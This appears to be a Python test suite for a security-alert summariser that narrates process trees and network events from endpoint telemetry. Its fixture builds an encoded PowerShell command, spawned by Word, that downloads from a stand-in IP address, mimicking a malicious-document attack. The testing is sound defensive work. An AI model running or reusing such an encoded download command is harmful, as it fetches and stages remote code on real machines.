import base64
import json

from hypothesis import given
from hypothesis import strategies as st

from shared.core.conclude import NO_RULES, conclude
from shared.core.conclude.story import MAX_LINE, MAX_LINES
from tests.builders import alert, finding, key, node, tied

ENCODED = "powershell.exe -enc " + base64.b64encode("iwr http://203.0.113.10/a".encode("utf-16-le")).decode()


def _chain() -> tuple[object, ...]:
    word = node("WINWORD.EXE", pid=8420, after=-2, depth=-1)
    shell = node("powershell.exe", ENCODED, parent=key(8420, -2))
    return (word, shell)


def test_the_story_opens_with_the_validation_and_tells_steps_in_time_order() -> None:
    events = (
        tied("DeviceNetworkEvents", "ConnectionSuccess", after=4, RemoteIP="203.0.113.10", RemotePort=443),
    )
    story = conclude(alert(), None, finding(nodes=_chain(), events=events), NO_RULES).story.splitlines()  # type: ignore[arg-type]
    assert story[0].startswith("Unproven: ")
    assert story[1] == "On 2026-11-24 (UTC):"
    assert story[2].startswith("10:02:09 WINWORD.EXE started")
    assert story[3].startswith("10:02:11 WINWORD.EXE started powershell.exe as alice (the alert's process)")
    assert "[decoded: iwr http://203.0.113.10/a]" in story[3]
    assert story[4] == "10:02:15 powershell.exe connected to 203.0.113.10 port 443"


def test_the_same_thing_is_told_once_with_its_count() -> None:
    events = tuple(
        tied("DeviceFileEvents", "FileCreated", after=n, number=n, FolderPath=f"C:\\Temp\\{n}.txt")
        for n in range(7)
    )
    story = conclude(alert(), None, finding(nodes=(node("a.exe"),), events=events), NO_RULES).story
    assert story.count("created files in C:\\Temp\\ (7 times)") == 1


def test_a_long_story_keeps_the_alerts_process_and_counts_the_rest() -> None:
    nodes = tuple(node(f"c{n}.exe", pid=n + 10, after=n + 1, depth=1) for n in range(300))
    story = conclude(alert(), None, finding(nodes=(node("evil.exe"), *nodes)), NO_RULES).story
    assert len(story.splitlines()) <= MAX_LINES + 5
    assert "evil.exe" in story
    assert "241 steps of less weight" in story


@given(st.text(max_size=300), st.text(max_size=300))
def test_no_name_can_break_a_line_or_move_the_cursor(name: str, command: str) -> None:
    nodes = (node(name or "x", command),)
    events = (tied("DeviceNetworkEvents", "ConnectionSuccess", RemoteUrl=name),)
    made = conclude(alert(), None, finding(nodes=nodes, events=events), NO_RULES)
    lines = made.story.split("\n")
    assert all(line.isprintable() and len(line) <= MAX_LINE for line in lines)
    assert len(lines) <= 5
    assert json.loads(made.process_tree)[0]["depth"] == 0


def test_a_huge_tree_stays_within_its_column_and_says_what_it_left_out() -> None:
    nodes = tuple(node("c.exe", "x" * 1_500, pid=n + 10, after=n + 1, depth=1) for n in range(500))
    tree = conclude(alert(), None, finding(nodes=(node("evil.exe"), *nodes)), NO_RULES).process_tree
    entries = json.loads(tree)
    assert len(tree) < 31_000
    assert entries[0]["name"] == "evil.exe"
    assert entries[-1]["left_out"] == 501 - (len(entries) - 1)
